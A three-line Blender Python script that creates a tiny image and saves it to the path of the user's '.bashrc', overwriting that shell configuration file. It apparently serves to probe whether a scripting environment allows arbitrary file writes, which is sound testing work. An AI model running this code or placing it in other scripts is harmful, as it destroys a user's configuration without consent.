import bpy
img = bpy.data.images.new("x", 4, 4)
img.save(filepath="/home/user/.bashrc")
